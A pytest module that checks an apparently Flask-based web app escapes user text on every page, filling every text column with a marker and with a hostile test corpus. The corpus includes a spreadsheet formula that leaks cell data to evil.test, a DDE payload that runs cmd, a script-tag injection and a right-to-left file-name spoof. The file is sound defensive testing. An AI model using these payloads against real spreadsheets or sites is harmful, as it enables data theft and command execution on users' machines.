"""User text is escaped on every page: every text column of every process artefact is
given markup, then every page of the authorization matrix is rendered and searched for
that markup unescaped."""

from __future__ import annotations

import re

import pytest
from sqlalchemy import String, Text, inspect, update

from facilitation.extensions import db
from facilitation.mixins import ProcessScoped
from facilitation.models import Organisation, Process, User

from .access import sign_in
from .test_access_matrix import CASES, _build_world, _request, _rule_for

MARK = '<x-xss a="1">'
IDENTIFIER = re.compile(r"^[a-z0-9_:.\-]*$")

# The hostile corpus: what a pasted or malicious value may hold. Each piece is put at the
# start of every text value (formula prefixes only act at the start) of a process by
# ``poison_every_text(process_id, HOSTILE_PREFIX, HOSTILE_SUFFIX)``.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "nul": "nul\x00",  # PostgreSQL refuses it in text: stripped before any write
    "control": "bell\x07 vt\x0b ff\x0c esc\x1b del\x7f nonchar\ufffe",
    "rtl": "\u202egpj.exe\u202c \u2066isolate\u2069",
    "markup": "<script>alert(1)</script><w:t>&amp;</w:t>]]><!--",
    "long": "long " * 2000,
}
HOSTILE_PREFIX = HOSTILE["formula"] + HOSTILE["control"] + HOSTILE["rtl"] + HOSTILE["markup"]
HOSTILE_SUFFIX = HOSTILE["long"]


def _text_columns(model):
    for column in inspect(model).columns:
        if column.foreign_keys or column.primary_key:
            continue
        if isinstance(column.type, String | Text) and not getattr(column.type, "enums", None):
            yield column


IDENTIFIER_COLUMNS = ("_key", "_hash", "token", "email", "password_hash", "code")


def text_fields():
    """Every (model, text column) of every mapped model: the corpus's reach is checked
    against this list, so a new text field is covered or reported, never forgotten."""
    models = {m.class_ for m in db.Model.registry.mappers}
    for model in sorted(models, key=lambda m: m.__name__):
        for column in _text_columns(model):
            yield model, column


def _poison_every_text(
    process_id: int, prefix: str = "", suffix: str = MARK, *, fill_empty_except=None
) -> set[str]:
    """Wrap every free-text value in ``prefix``/``suffix`` (cut to the column's length),
    written with plain SQL as if stored before any input cleaning; values that look like
    identifiers (stage keys, codes, tokens) keep their meaning and are left alone.

    With ``fill_empty_except`` (``table.column`` names that hold no user text), empty and
    NULL values of every other text column are filled with the corpus too, so a field the
    demo leaves blank is still reached. Returns the ``table.column`` names reached."""
    poisoned = set()
    fill = fill_empty_except is not None
    for model, column in text_fields():
        table = model.__table__
        scoped = issubclass(model, ProcessScoped) or "process_id" in table.c
        if not scoped and model not in (Process, User, Organisation):
            continue
        if column.name.endswith(IDENTIFIER_COLUMNS):
            continue
        if fill and f"{table.name}.{column.name}" in fill_empty_except:
            continue
        where = table.c.process_id == process_id if "process_id" in table.c else None
        if model is Process:
            where = table.c.id == process_id
        if where is None:
            continue
        values = db.session.execute(db.select(column).where(where)).scalars().all()
        filled = [v for v in values if v]
        if not values or (not fill or filled) and all(IDENTIFIER.match(v) for v in filled):
            continue
        limit = getattr(column.type, "length", None) or 20_000
        if not prefix and limit < len(suffix) + 1:
            continue  # a code-sized column (a currency) cannot hold the mark at all
        head = prefix[: max(limit - 1, 0) // 2]
        room = max(limit - len(head) - 1, 1)
        tail = suffix[: max(room // 2, 0)] if prefix else suffix
        keep = max(room - len(tail), 1)
        db.session.execute(
            update(table)
            .where(where)
            .where(column.is_not(None))
            .where(column != "")
            .values({column.name: head + db.func.substr(column, 1, keep) + tail})
        )
        if fill:
            empty = (column.is_(None)) | (column == "")
            blank = (head + tail)[:limit]
            db.session.execute(update(table).where(where).where(empty).values({column.name: blank}))
        poisoned.add(f"{table.name}.{column.name}")
    db.session.commit()
    return poisoned


@pytest.fixture
def poisoned_world(app):
    world = _build_world(app)
    db.session.execute(update(User).values(name=User.name + MARK))
    assert len(_poison_every_text(world.process_id)) > 20
    return world


def test_no_page_shows_user_text_unescaped(app, client, poisoned_world):
    world = poisoned_world
    pages = [
        c for c in CASES if c.method == "GET" and c.need in ("read", "write", "manage", "login")
    ]
    checked = shown_escaped = 0
    failures = []
    sign_in(client, db.session.get(User, world.users["facilitator"].id))
    for case in pages:
        rule = _rule_for(app, case.endpoint)
        response = _request(client, app, case, world, rule)
        if "text/html" not in response.content_type:
            continue
        checked += 1
        body = response.get_data(as_text=True)
        if MARK in body:
            failures.append(case.endpoint)
        if "&lt;x-xss" in body:
            shown_escaped += 1
    assert checked > 40
    assert shown_escaped > 30  # the poisoned text really reaches the pages
    assert not failures, f"unescaped user text on: {failures}"
